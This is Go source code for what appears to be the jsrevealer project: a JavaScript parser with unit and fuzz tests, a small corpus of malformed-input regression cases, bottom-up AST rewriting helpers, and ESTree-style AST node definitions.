			p.advance()
			callee = &ast.MemberExpression{Object: callee, Property: &ast.Identifier{Name: t.Literal}}
		} else {
			p.advance()
			prop, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			callee = &ast.MemberExpression{Object: callee, Property: prop, Computed: true}
		}
	}
	ne := &ast.NewExpression{Callee: callee}
	if p.isPunct("(") {
		args, err := p.parseArguments()
		if err != nil {
			return nil, err
		}
		ne.Arguments = args
	}
	return ne, nil
}

func (p *parser) parseArguments() ([]ast.Expression, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []ast.Expression
	for !p.isPunct(")") {
		if p.atEOF() {
			return nil, p.errorf("unterminated argument list")
		}
		arg, err := p.parseAssignment()
		if err != nil {
			return nil, err
		}
		args = append(args, arg)
		if p.isPunct(",") {
			p.advance()
		}
	}
	p.advance() // ')'
	return args, nil
}

func (p *parser) parsePrimary() (ast.Expression, error) {
	t := p.cur()
	switch t.Kind {
	case lexer.Ident:
		p.advance()
		return &ast.Identifier{Name: t.Literal}, nil
	case lexer.Number:
		p.advance()
		val, err := parseNumericLiteral(t.Literal)
		if err != nil {
			return nil, p.errorf("bad number %q: %v", t.Literal, err)
		}
		return &ast.Literal{Kind: ast.LiteralNumber, NumVal: val, Raw: t.Raw}, nil
	case lexer.String:
		p.advance()
		return &ast.Literal{Kind: ast.LiteralString, StrVal: t.Literal, Raw: t.Raw}, nil
	case lexer.Template:
		p.advance()
		return &ast.Literal{Kind: ast.LiteralString, StrVal: t.Literal, Raw: t.Raw}, nil
	case lexer.Regex:
		p.advance()
		return &ast.Literal{Kind: ast.LiteralRegExp, StrVal: t.Literal, Raw: t.Raw}, nil
	case lexer.Keyword:
		switch t.Literal {
		case "this":
			p.advance()
			return &ast.ThisExpression{}, nil
		case "true", "false":
			p.advance()
			return &ast.Literal{Kind: ast.LiteralBool, BoolVal: t.Literal == "true", Raw: t.Raw}, nil
		case "null":
			p.advance()
			return &ast.Literal{Kind: ast.LiteralNull, Raw: t.Raw}, nil
		case "function":
			return p.parseFunctionExpression()
		case "new":
			return p.parseNew()
		}
	case lexer.Punct:
		switch t.Literal {
		case "(":
			p.advance()
			expr, err := p.parseExpression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return expr, nil
		case "[":
			return p.parseArrayLiteral()
		case "{":
			return p.parseObjectLiteral()
		}
	}
	return nil, p.errorf("unexpected token %s", t)
}

func (p *parser) parseFunctionExpression() (*ast.FunctionExpression, error) {
	p.advance() // function
	fe := &ast.FunctionExpression{}
	if p.cur().Kind == lexer.Ident {
		fe.ID = &ast.Identifier{Name: p.advance().Literal}
	}
	params, err := p.parseParams()
	if err != nil {
		return nil, err
	}
	fe.Params = params
	body, err := p.parseBlock()
	if err != nil {
		return nil, err
	}
	fe.Body = body
	return fe, nil
}

func (p *parser) parseArrayLiteral() (*ast.ArrayExpression, error) {
	p.advance() // '['
	arr := &ast.ArrayExpression{}
	for !p.isPunct("]") {
		if p.atEOF() {
			return nil, p.errorf("unterminated array literal")
		}
		if p.isPunct(",") {
			// Elision hole.
			arr.Elements = append(arr.Elements, nil)
			p.advance()
			continue
		}
		el, err := p.parseAssignment()
		if err != nil {
			return nil, err
		}
		arr.Elements = append(arr.Elements, el)
		if p.isPunct(",") {
			p.advance()
		}
	}
	p.advance() // ']'
	return arr, nil
}

func (p *parser) parseObjectLiteral() (*ast.ObjectExpression, error) {
	p.advance() // '{'
	obj := &ast.ObjectExpression{}
	for !p.isPunct("}") {
		if p.atEOF() {
			return nil, p.errorf("unterminated object literal")
		}
		prop, err := p.parseProperty()
		if err != nil {
			return nil, err
		}
		obj.Properties = append(obj.Properties, prop)
		if p.isPunct(",") {
			p.advance()
		} else if !p.isPunct("}") {
			return nil, p.errorf("expected ',' or '}' in object literal, found %s", p.cur())
		}
	}
	p.advance() // '}'
	return obj, nil
}

func (p *parser) parseProperty() (*ast.Property, error) {
	t := p.cur()
	// get/set accessors: `get name() {...}`.
	if t.Kind == lexer.Ident && (t.Literal == "get" || t.Literal == "set") {
		next := p.peek()
		if next.Kind == lexer.Ident || next.Kind == lexer.Keyword ||
			next.Kind == lexer.String || next.Kind == lexer.Number {
			kind := ast.PropertyGet
			if t.Literal == "set" {
				kind = ast.PropertySet
			}
			p.advance() // get/set
			key, err := p.parsePropertyKey()
			if err != nil {
				return nil, err
			}
			params, err := p.parseParams()
			if err != nil {
				return nil, err
			}
			body, err := p.parseBlock()
			if err != nil {
				return nil, err
			}
			return &ast.Property{
				Kind:  kind,
				Key:   key,
				Value: &ast.FunctionExpression{Params: params, Body: body},
			}, nil
		}
	}
	key, err := p.parsePropertyKey()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	val, err := p.parseAssignment()
	if err != nil {
		return nil, err
	}
	return &ast.Property{Kind: ast.PropertyInit, Key: key, Value: val}, nil
}

func (p *parser) parsePropertyKey() (ast.Expression, error) {
	t := p.cur()
	switch t.Kind {
	case lexer.Ident, lexer.Keyword:
		p.advance()
		return &ast.Identifier{Name: t.Literal}, nil
	case lexer.String:
		p.advance()
		return &ast.Literal{Kind: ast.LiteralString, StrVal: t.Literal, Raw: t.Raw}, nil
	case lexer.Number:
		p.advance()
		val, err := parseNumericLiteral(t.Literal)
		if err != nil {
			return nil, p.errorf("bad number %q: %v", t.Literal, err)
		}
		return &ast.Literal{Kind: ast.LiteralNumber, NumVal: val, Raw: t.Raw}, nil
	default:
		return nil, p.errorf("invalid property key %s", t)
	}
}

// parseNumericLiteral converts a JS numeric literal (decimal or 0x hex) to a
// float64.
func parseNumericLiteral(s string) (float64, error) {
	if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
		v, err := strconv.ParseUint(s[2:], 16, 64)
		return float64(v), err
	}
	return strconv.ParseFloat(s, 64)
}
