package parser

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// pathologicalInputs loads the checked-in regression corpus: inputs that
// historically crashed, hung, or overflowed the stack of naive parsers.
func pathologicalInputs(t testing.TB) map[string]string {
	t.Helper()
	dir := filepath.Join("testdata", "pathological")
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatalf("reading corpus: %v", err)
	}
	out := make(map[string]string, len(entries))
	for _, e := range entries {
		data, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatalf("reading %s: %v", e.Name(), err)
		}
		out[e.Name()] = string(data)
	}
	return out
}

// TestPathologicalCorpusIsBounded parses every checked-in pathological
// input and requires a decision (AST or structured error) in bounded time,
// with no panic and no stack overflow.
func TestPathologicalCorpusIsBounded(t *testing.T) {
	for name, src := range pathologicalInputs(t) {
		name, src := name, src
		t.Run(name, func(t *testing.T) {
			start := time.Now()
			prog, err := ParseWithLimits(src, Limits{})
			if d := time.Since(start); d > 10*time.Second {
				t.Fatalf("parse took %v, not bounded", d)
			}
			if prog == nil && err == nil {
				t.Fatal("no AST and no error")
			}
			if strings.HasPrefix(name, "deep_") && !errors.Is(err, ErrTooDeep) {
				// Every deep_* case nests beyond DefaultMaxDepth and must be
				// cut off by the depth guard specifically.
				t.Fatalf("want ErrTooDeep, got %v", err)
			}
		})
	}
}

// TestDepthLimitConfigurable checks the guard tracks the configured budget.
func TestDepthLimitConfigurable(t *testing.T) {
	nested := "var x = " + strings.Repeat("(", 200) + "1" + strings.Repeat(")", 200) + ";"
	if _, err := ParseWithLimits(nested, Limits{MaxDepth: 100}); !errors.Is(err, ErrTooDeep) {
		t.Errorf("MaxDepth 100: want ErrTooDeep, got %v", err)
	}
	if _, err := ParseWithLimits(nested, Limits{MaxDepth: 1000}); err != nil {
		t.Errorf("MaxDepth 1000: unexpected error %v", err)
	}
}

// TestParseCancellation checks Limits.Cancel aborts a parse in flight.
func TestParseCancellation(t *testing.T) {
	cancel := make(chan struct{})
	close(cancel)
	// Enough tokens that the cancellation poll (every 256 frames) fires.
	src := strings.Repeat("var a = 1;\n", 5000)
	if _, err := ParseWithLimits(src, Limits{Cancel: cancel}); !errors.Is(err, ErrCancelled) {
		t.Errorf("want ErrCancelled, got %v", err)
	}
}

// FuzzParse asserts the parser's core robustness contract on arbitrary
// bytes: it returns an AST or an error — never a panic, hang, or stack
// overflow — and respects its depth and token budgets.
func FuzzParse(f *testing.F) {
	for _, src := range pathologicalInputs(f) {
		f.Add(src)
	}
	f.Add("var x = function(a, b) { return a + b; };")
	f.Add("for (var i = 0; i < 10; i++) { o[i] = {k: [1,,2]}; }")
	f.Add("try { throw /re/g; } catch (e) { l: while (1) break l; }")
	f.Add("switch (x) { case 1: default: new new Date()(); }")
	f.Fuzz(func(t *testing.T, src string) {
		prog, err := ParseWithLimits(src, Limits{MaxDepth: 500, MaxTokens: 100_000})
		if prog == nil && err == nil {
			t.Fatal("no AST and no error")
		}
	})
}
