package parser

import (
	"strings"
	"testing"

	"jsrevealer/internal/js/ast"
)

func parse(t *testing.T, src string) *ast.Program {
	t.Helper()
	prog, err := Parse(src)
	if err != nil {
		t.Fatalf("Parse(%q): %v", src, err)
	}
	return prog
}

func firstStmt(t *testing.T, src string) ast.Statement {
	t.Helper()
	prog := parse(t, src)
	if len(prog.Body) == 0 {
		t.Fatalf("Parse(%q): empty program", src)
	}
	return prog.Body[0]
}

func TestVariableDeclaration(t *testing.T) {
	stmt := firstStmt(t, "var a = 1, b, c = \"x\";")
	decl, ok := stmt.(*ast.VariableDeclaration)
	if !ok {
		t.Fatalf("got %T", stmt)
	}
	if decl.Kind != "var" || len(decl.Declarations) != 3 {
		t.Fatalf("decl = %+v", decl)
	}
	if decl.Declarations[0].ID.Name != "a" || decl.Declarations[0].Init == nil {
		t.Error("a = 1 mis-parsed")
	}
	if decl.Declarations[1].Init != nil {
		t.Error("b should have no initializer")
	}
}

func TestLetConst(t *testing.T) {
	for _, kind := range []string{"let", "const"} {
		stmt := firstStmt(t, kind+" x = 2;")
		decl := stmt.(*ast.VariableDeclaration)
		if decl.Kind != kind {
			t.Errorf("kind = %q, want %q", decl.Kind, kind)
		}
	}
}

func TestOperatorPrecedence(t *testing.T) {
	stmt := firstStmt(t, "x = 1 + 2 * 3;")
	assign := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression)
	add, ok := assign.Right.(*ast.BinaryExpression)
	if !ok || add.Operator != "+" {
		t.Fatalf("top of RHS = %#v, want +", assign.Right)
	}
	mul, ok := add.Right.(*ast.BinaryExpression)
	if !ok || mul.Operator != "*" {
		t.Fatalf("right of + = %#v, want *", add.Right)
	}
}

func TestLogicalVersusBinary(t *testing.T) {
	stmt := firstStmt(t, "a && b || c;")
	or := stmt.(*ast.ExpressionStatement).Expression.(*ast.LogicalExpression)
	if or.Operator != "||" {
		t.Fatalf("top = %q, want ||", or.Operator)
	}
	and := or.Left.(*ast.LogicalExpression)
	if and.Operator != "&&" {
		t.Fatalf("left = %q, want &&", and.Operator)
	}
}

func TestRightAssociativeAssignment(t *testing.T) {
	stmt := firstStmt(t, "a = b = 3;")
	outer := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression)
	if _, ok := outer.Right.(*ast.AssignmentExpression); !ok {
		t.Fatalf("a = (b = 3) mis-parsed: %#v", outer.Right)
	}
}

func TestConditionalExpression(t *testing.T) {
	stmt := firstStmt(t, "x = a ? 1 : b ? 2 : 3;")
	cond := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.ConditionalExpression)
	if _, ok := cond.Alternate.(*ast.ConditionalExpression); !ok {
		t.Fatal("nested ternary mis-parsed")
	}
}

func TestMemberAndCallChains(t *testing.T) {
	stmt := firstStmt(t, "a.b.c(1)[d](2);")
	call := stmt.(*ast.ExpressionStatement).Expression.(*ast.CallExpression)
	if len(call.Arguments) != 1 {
		t.Fatal("outer call args")
	}
	inner, ok := call.Callee.(*ast.MemberExpression)
	if !ok || !inner.Computed {
		t.Fatalf("computed member mis-parsed: %#v", call.Callee)
	}
}

func TestNewExpression(t *testing.T) {
	stmt := firstStmt(t, "var d = new Date(1, 2);")
	ne := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.NewExpression)
	if len(ne.Arguments) != 2 {
		t.Fatalf("new args = %d", len(ne.Arguments))
	}
	// new with member callee
	stmt = firstStmt(t, "var x = new a.B();")
	ne = stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.NewExpression)
	if _, ok := ne.Callee.(*ast.MemberExpression); !ok {
		t.Fatalf("new a.B callee: %#v", ne.Callee)
	}
	// new without parens
	stmt = firstStmt(t, "var y = new Thing;")
	if _, ok := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.NewExpression); !ok {
		t.Fatal("new without parens mis-parsed")
	}
}

func TestUnaryAndUpdate(t *testing.T) {
	stmt := firstStmt(t, "x = typeof -y;")
	un := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.UnaryExpression)
	if un.Operator != "typeof" {
		t.Fatalf("outer op %q", un.Operator)
	}
	stmt = firstStmt(t, "i++;")
	up := stmt.(*ast.ExpressionStatement).Expression.(*ast.UpdateExpression)
	if up.Prefix || up.Operator != "++" {
		t.Fatalf("postfix: %+v", up)
	}
	stmt = firstStmt(t, "--j;")
	up = stmt.(*ast.ExpressionStatement).Expression.(*ast.UpdateExpression)
	if !up.Prefix || up.Operator != "--" {
		t.Fatalf("prefix: %+v", up)
	}
}

func TestForVariants(t *testing.T) {
	if _, ok := firstStmt(t, "for (;;) {}").(*ast.ForStatement); !ok {
		t.Error("empty for")
	}
	fs := firstStmt(t, "for (var i = 0; i < 5; i++) { work(); }").(*ast.ForStatement)
	if fs.Init == nil || fs.Test == nil || fs.Update == nil {
		t.Error("full for clauses missing")
	}
	fi := firstStmt(t, "for (var k in obj) { use(k); }").(*ast.ForInStatement)
	if _, ok := fi.Left.(*ast.VariableDeclaration); !ok {
		t.Error("for-in with var")
	}
	fi = firstStmt(t, "for (k in obj) {}").(*ast.ForInStatement)
	if _, ok := fi.Left.(*ast.Identifier); !ok {
		t.Error("for-in with bare identifier")
	}
	// `in` allowed inside parens in for-init.
	fs = firstStmt(t, "for (var ok = (\"x\" in obj); ok; ) {}").(*ast.ForStatement)
	if fs.Init == nil {
		t.Error("parenthesized in for-init")
	}
}

func TestSwitch(t *testing.T) {
	sw := firstStmt(t, `switch (x) { case 1: a(); break; case 2: case 3: b(); default: c(); }`).(*ast.SwitchStatement)
	if len(sw.Cases) != 4 {
		t.Fatalf("cases = %d, want 4", len(sw.Cases))
	}
	if sw.Cases[3].Test != nil {
		t.Error("default case should have nil test")
	}
	if len(sw.Cases[1].Consequent) != 0 {
		t.Error("fallthrough case should be empty")
	}
}

func TestTryCatchFinally(t *testing.T) {
	ts := firstStmt(t, "try { a(); } catch (e) { b(e); } finally { c(); }").(*ast.TryStatement)
	if ts.Handler == nil || ts.Handler.Param.Name != "e" || ts.Finalizer == nil {
		t.Fatalf("try mis-parsed: %+v", ts)
	}
	if _, err := Parse("try { a(); }"); err == nil {
		t.Error("try without catch/finally should error")
	}
}

func TestLabeledBreakContinue(t *testing.T) {
	ls := firstStmt(t, "outer: while (1) { break outer; }").(*ast.LabeledStatement)
	if ls.Label.Name != "outer" {
		t.Fatal("label name")
	}
	ws := ls.Body.(*ast.WhileStatement)
	br := ws.Body.(*ast.BlockStatement).Body[0].(*ast.BreakStatement)
	if br.Label == nil || br.Label.Name != "outer" {
		t.Fatal("break label")
	}
}

func TestObjectLiteral(t *testing.T) {
	stmt := firstStmt(t, `var o = { a: 1, "b": 2, 3: "x", get v() { return 1; }, if: 4 };`)
	obj := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.ObjectExpression)
	if len(obj.Properties) != 5 {
		t.Fatalf("properties = %d", len(obj.Properties))
	}
	if obj.Properties[3].Kind != ast.PropertyGet {
		t.Error("getter kind")
	}
	if key, ok := obj.Properties[4].Key.(*ast.Identifier); !ok || key.Name != "if" {
		t.Error("keyword property key")
	}
}

func TestArrayLiteralWithHoles(t *testing.T) {
	stmt := firstStmt(t, "var a = [1, , 3];")
	arr := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.ArrayExpression)
	if len(arr.Elements) != 3 || arr.Elements[1] != nil {
		t.Fatalf("elements = %v", arr.Elements)
	}
}

func TestASI(t *testing.T) {
	// Newline-terminated statements parse without semicolons.
	prog := parse(t, "var a = 1\nvar b = 2\na = b")
	if len(prog.Body) != 3 {
		t.Fatalf("ASI program body = %d", len(prog.Body))
	}
	// return followed by newline returns undefined.
	fn := firstStmt(t, "function f() { return\n5; }").(*ast.FunctionDeclaration)
	ret := fn.Body.Body[0].(*ast.ReturnStatement)
	if ret.Argument != nil {
		t.Error("return\\n5 should parse as bare return")
	}
	// Missing semicolon without newline is an error.
	if _, err := Parse("var a = 1 var b = 2"); err == nil {
		t.Error("expected ASI failure")
	}
}

func TestSequenceExpression(t *testing.T) {
	stmt := firstStmt(t, "x = (a, b, c);")
	seq := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.SequenceExpression)
	if len(seq.Expressions) != 3 {
		t.Fatalf("sequence length = %d", len(seq.Expressions))
	}
}

func TestFunctionExpression(t *testing.T) {
	stmt := firstStmt(t, "var f = function named(a, b) { return a + b; };")
	fe := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.FunctionExpression)
	if fe.ID == nil || fe.ID.Name != "named" || len(fe.Params) != 2 {
		t.Fatalf("function expression: %+v", fe)
	}
	stmt = firstStmt(t, "(function() { go(); })();")
	if _, ok := stmt.(*ast.ExpressionStatement).Expression.(*ast.CallExpression); !ok {
		t.Error("IIFE mis-parsed")
	}
}

func TestNumericLiterals(t *testing.T) {
	stmt := firstStmt(t, "var n = 0x10;")
	lit := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.Literal)
	if lit.NumVal != 16 {
		t.Errorf("0x10 = %v, want 16", lit.NumVal)
	}
}

func TestRegexLiteralExpression(t *testing.T) {
	stmt := firstStmt(t, "var re = /a[b/]c/gi;")
	lit := stmt.(*ast.VariableDeclaration).Declarations[0].Init.(*ast.Literal)
	if lit.Kind != ast.LiteralRegExp || lit.StrVal != "/a[b/]c/gi" {
		t.Errorf("regex literal: %+v", lit)
	}
}

func TestInvalidAssignmentTarget(t *testing.T) {
	if _, err := Parse("1 = x;"); err == nil {
		t.Error("expected invalid assignment target error")
	}
}

func TestParseErrorsCarryPosition(t *testing.T) {
	_, err := Parse("if (x {")
	if err == nil {
		t.Fatal("expected error")
	}
	pe, ok := err.(*ParseError)
	if !ok {
		t.Fatalf("error type %T", err)
	}
	if pe.Line != 1 || !strings.Contains(pe.Error(), "1:") {
		t.Errorf("error = %v", pe)
	}
}

func TestUnterminatedConstructs(t *testing.T) {
	for _, src := range []string{
		"{", "function f() {", "var a = [1,", "var o = {a: 1,",
		"switch (x) {", "f(1,",
	} {
		if _, err := Parse(src); err == nil {
			t.Errorf("Parse(%q): expected error", src)
		}
	}
}

func TestWithStatement(t *testing.T) {
	ws := firstStmt(t, "with (o) { v; }").(*ast.WithStatement)
	if ws.Object == nil || ws.Body == nil {
		t.Fatal("with mis-parsed")
	}
}

func TestInstanceofAndIn(t *testing.T) {
	stmt := firstStmt(t, "x = a instanceof Date && \"k\" in o;")
	and := stmt.(*ast.ExpressionStatement).Expression.(*ast.AssignmentExpression).Right.(*ast.LogicalExpression)
	left := and.Left.(*ast.BinaryExpression)
	if left.Operator != "instanceof" {
		t.Errorf("left op = %q", left.Operator)
	}
	right := and.Right.(*ast.BinaryExpression)
	if right.Operator != "in" {
		t.Errorf("right op = %q", right.Operator)
	}
}

func TestDeepNestingDoesNotStackOverflow(t *testing.T) {
	src := strings.Repeat("(", 200) + "1" + strings.Repeat(")", 200) + ";"
	if _, err := Parse(src); err != nil {
		t.Fatalf("deep parens: %v", err)
	}
}

func TestKeywordMemberProperty(t *testing.T) {
	stmt := firstStmt(t, "a.delete();")
	call := stmt.(*ast.ExpressionStatement).Expression.(*ast.CallExpression)
	me := call.Callee.(*ast.MemberExpression)
	if id, ok := me.Property.(*ast.Identifier); !ok || id.Name != "delete" {
		t.Error("keyword as member property")
	}
}
