var v = 1; ÿş€ var w = 2;
