var p = "\uD800";
