var s = "never closed
