var r = /never closed
