var s = `never closed
