/* never closed
var a = 1;
