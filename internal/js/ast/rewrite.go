// Bottom-up rewriting primitives over the AST. Walk (walk.go) is the
// read-only traversal; the rewriters here are its mutating counterparts,
// shared by the obfuscators (internal/obfuscate) and the normalization
// passes (internal/deobfuscate). Both visit children before parents, so a
// callback always sees a subtree whose inner nodes have already been
// rewritten — the natural shape for constant folding and literal inlining.
package ast

// ExprRewriter maps an expression to its replacement. Returning the
// argument unchanged keeps the node; returning a different Expression
// splices it into the parent in place.
type ExprRewriter func(Expression) Expression

// StmtRewriter maps a statement to a replacement list. The boolean reports
// whether a rewrite happened: (nil, true) deletes the statement,
// (list, true) splices list in its place, (_, false) keeps the original.
// In single-statement positions (an if branch, a loop body) a multi-element
// replacement is wrapped in a block and an empty one becomes `;`.
type StmtRewriter func(Statement) ([]Statement, bool)

// RewriteExpressions rewrites every expression under prog bottom-up with f,
// mutating the tree in place. Identifiers in pure name positions — object
// literal keys, non-computed member properties, declaration and parameter
// binding sites, assignment and update targets — are never passed to f:
// they are names, not value references, and substituting a value there
// would corrupt the program.
func RewriteExpressions(prog *Program, f ExprRewriter) {
	r := &rewriter{expr: f}
	prog.Body = r.stmtList(prog.Body)
}

// RewriteStatements rewrites every statement under prog bottom-up with f,
// mutating the tree in place. Children are rewritten before f sees their
// parent, so a statement spliced in by f is NOT revisited in the same call
// — run the rewrite again (or iterate to fixpoint) to reach new material.
func RewriteStatements(prog *Program, f StmtRewriter) {
	r := &rewriter{stmt: f}
	prog.Body = r.stmtList(prog.Body)
}

// Rewrite applies an expression and a statement rewriter (either may be
// nil) in one bottom-up traversal.
func Rewrite(prog *Program, fe ExprRewriter, fs StmtRewriter) {
	r := &rewriter{expr: fe, stmt: fs}
	prog.Body = r.stmtList(prog.Body)
}

type rewriter struct {
	expr ExprRewriter
	stmt StmtRewriter
}

// stmtList rewrites a statement list, splicing replacements in place.
func (r *rewriter) stmtList(list []Statement) []Statement {
	out := make([]Statement, 0, len(list))
	changed := false
	for _, s := range list {
		repl, ch := r.oneStmt(s)
		if ch {
			changed = true
			out = append(out, repl...)
		} else {
			out = append(out, s)
		}
	}
	if !changed {
		return list
	}
	return out
}

// oneStmt rewrites s's children, then applies the statement callback.
func (r *rewriter) oneStmt(s Statement) ([]Statement, bool) {
	r.walkStmt(s)
	if r.stmt != nil {
		if repl, ok := r.stmt(s); ok {
			return repl, true
		}
	}
	return nil, false
}

// single rewrites a statement in a position that must hold exactly one
// statement (if branch, loop body, labeled body).
func (r *rewriter) single(s Statement) Statement {
	if s == nil {
		return nil
	}
	repl, ch := r.oneStmt(s)
	if !ch {
		return s
	}
	switch len(repl) {
	case 0:
		return &EmptyStatement{}
	case 1:
		return repl[0]
	default:
		return &BlockStatement{Body: repl}
	}
}

// rw runs the expression callback over e after rewriting its children.
func (r *rewriter) rw(e Expression) Expression {
	if e == nil {
		return nil
	}
	r.walkExpr(e)
	if r.expr != nil {
		if out := r.expr(e); out != nil {
			return out
		}
	}
	return e
}

// target rewrites the readable sub-parts of an assignment/update target
// without ever replacing the target itself: for `a[i] = v`, a and i are
// value references, but the member expression is a binding position.
func (r *rewriter) target(e Expression) {
	if m, ok := e.(*MemberExpression); ok {
		m.Object = r.rw(m.Object)
		if m.Computed {
			m.Property = r.rw(m.Property)
		}
	}
}

func (r *rewriter) walkStmt(s Statement) {
	switch n := s.(type) {
	case *ExpressionStatement:
		n.Expression = r.rw(n.Expression)
	case *BlockStatement:
		n.Body = r.stmtList(n.Body)
	case *VariableDeclaration:
		for _, d := range n.Declarations {
			if d.Init != nil {
				d.Init = r.rw(d.Init)
			}
		}
	case *FunctionDeclaration:
		n.Body.Body = r.stmtList(n.Body.Body)
	case *ReturnStatement:
		if n.Argument != nil {
			n.Argument = r.rw(n.Argument)
		}
	case *IfStatement:
		n.Test = r.rw(n.Test)
		n.Consequent = r.single(n.Consequent)
		if n.Alternate != nil {
			n.Alternate = r.single(n.Alternate)
		}
	case *ForStatement:
		switch init := n.Init.(type) {
		case *VariableDeclaration:
			r.walkStmt(init)
		case Expression:
			n.Init = r.rw(init)
		}
		if n.Test != nil {
			n.Test = r.rw(n.Test)
		}
		if n.Update != nil {
			n.Update = r.rw(n.Update)
		}
		n.Body = r.single(n.Body)
	case *ForInStatement:
		switch left := n.Left.(type) {
		case *VariableDeclaration:
			r.walkStmt(left)
		case Expression:
			r.target(left)
		}
		n.Right = r.rw(n.Right)
		n.Body = r.single(n.Body)
	case *WhileStatement:
		n.Test = r.rw(n.Test)
		n.Body = r.single(n.Body)
	case *DoWhileStatement:
		n.Body = r.single(n.Body)
		n.Test = r.rw(n.Test)
	case *LabeledStatement:
		n.Body = r.single(n.Body)
	case *SwitchStatement:
		n.Discriminant = r.rw(n.Discriminant)
		for _, c := range n.Cases {
			if c.Test != nil {
				c.Test = r.rw(c.Test)
			}
			c.Consequent = r.stmtList(c.Consequent)
		}
	case *ThrowStatement:
		n.Argument = r.rw(n.Argument)
	case *TryStatement:
		n.Block.Body = r.stmtList(n.Block.Body)
		if n.Handler != nil {
			n.Handler.Body.Body = r.stmtList(n.Handler.Body.Body)
		}
		if n.Finalizer != nil {
			n.Finalizer.Body = r.stmtList(n.Finalizer.Body)
		}
	case *WithStatement:
		n.Object = r.rw(n.Object)
		n.Body = r.single(n.Body)
	}
}

func (r *rewriter) walkExpr(e Expression) {
	switch n := e.(type) {
	case *ArrayExpression:
		for i, el := range n.Elements {
			if el != nil {
				n.Elements[i] = r.rw(el)
			}
		}
	case *ObjectExpression:
		for _, p := range n.Properties {
			if p.Computed {
				p.Key = r.rw(p.Key)
			}
			p.Value = r.rw(p.Value)
		}
	case *FunctionExpression:
		n.Body.Body = r.stmtList(n.Body.Body)
	case *UnaryExpression:
		if n.Operator == "delete" {
			// The operand is an erasure target, not a value read.
			r.target(n.Argument)
			return
		}
		n.Argument = r.rw(n.Argument)
	case *UpdateExpression:
		r.target(n.Argument)
	case *BinaryExpression:
		n.Left = r.rw(n.Left)
		n.Right = r.rw(n.Right)
	case *LogicalExpression:
		n.Left = r.rw(n.Left)
		n.Right = r.rw(n.Right)
	case *AssignmentExpression:
		r.target(n.Left)
		n.Right = r.rw(n.Right)
	case *ConditionalExpression:
		n.Test = r.rw(n.Test)
		n.Consequent = r.rw(n.Consequent)
		n.Alternate = r.rw(n.Alternate)
	case *CallExpression:
		n.Callee = r.rw(n.Callee)
		for i, a := range n.Arguments {
			n.Arguments[i] = r.rw(a)
		}
	case *NewExpression:
		n.Callee = r.rw(n.Callee)
		for i, a := range n.Arguments {
			n.Arguments[i] = r.rw(a)
		}
	case *MemberExpression:
		n.Object = r.rw(n.Object)
		if n.Computed {
			n.Property = r.rw(n.Property)
		}
	case *SequenceExpression:
		for i, x := range n.Expressions {
			n.Expressions[i] = r.rw(x)
		}
	}
}
