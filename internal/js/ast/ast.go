// Package ast defines an ESTree-shaped abstract syntax tree for JavaScript.
//
// The node vocabulary mirrors the ESTree specification used by Esprima, the
// parser the JSRevealer paper builds on: node type names such as
// "VariableDeclaration", "CallExpression", and "MemberExpression" are exactly
// the strings that appear in extracted path contexts, so downstream packages
// (pathctx, baselines, obfuscate) depend on these names being stable.
package ast

import "fmt"

// Node is implemented by every AST node.
type Node interface {
	// Type returns the ESTree type name of the node (e.g. "IfStatement").
	Type() string
	// Children returns the node's children in source order.
	Children() []Node
}

// Statement is implemented by statement nodes.
type Statement interface {
	Node
	stmtNode()
}

// Expression is implemented by expression nodes.
type Expression interface {
	Node
	exprNode()
}

// Pattern is implemented by binding targets (identifiers, member expressions
// in assignment position). ES5 subset: Identifier and MemberExpression.
type Pattern interface {
	Node
	patternNode()
}

// Program is the root node of a parsed script.
type Program struct {
	Body []Statement
}

// Type implements Node.
func (*Program) Type() string { return "Program" }

// Children implements Node.
func (p *Program) Children() []Node { return stmtsToNodes(p.Body) }

// ---------------------------------------------------------------------------
// Statements
// ---------------------------------------------------------------------------

// ExpressionStatement wraps an expression used as a statement.
type ExpressionStatement struct {
	Expression Expression
}

// Type implements Node.
func (*ExpressionStatement) Type() string { return "ExpressionStatement" }

// Children implements Node.
func (s *ExpressionStatement) Children() []Node { return []Node{s.Expression} }

// BlockStatement is a brace-delimited list of statements.
type BlockStatement struct {
	Body []Statement
}

// Type implements Node.
func (*BlockStatement) Type() string { return "BlockStatement" }

// Children implements Node.
func (s *BlockStatement) Children() []Node { return stmtsToNodes(s.Body) }

// EmptyStatement is a lone semicolon.
type EmptyStatement struct{}

// Type implements Node.
func (*EmptyStatement) Type() string { return "EmptyStatement" }

// Children implements Node.
func (*EmptyStatement) Children() []Node { return nil }

// DebuggerStatement is the `debugger` statement.
type DebuggerStatement struct{}

// Type implements Node.
func (*DebuggerStatement) Type() string { return "DebuggerStatement" }

// Children implements Node.
func (*DebuggerStatement) Children() []Node { return nil }

// VariableDeclaration declares one or more variables.
type VariableDeclaration struct {
	Kind         string // "var", "let", or "const"
	Declarations []*VariableDeclarator
}

// Type implements Node.
func (*VariableDeclaration) Type() string { return "VariableDeclaration" }

// Children implements Node.
func (s *VariableDeclaration) Children() []Node {
	out := make([]Node, len(s.Declarations))
	for i, d := range s.Declarations {
		out[i] = d
	}
	return out
}

// VariableDeclarator is a single `name = init` inside a declaration.
type VariableDeclarator struct {
	ID   *Identifier
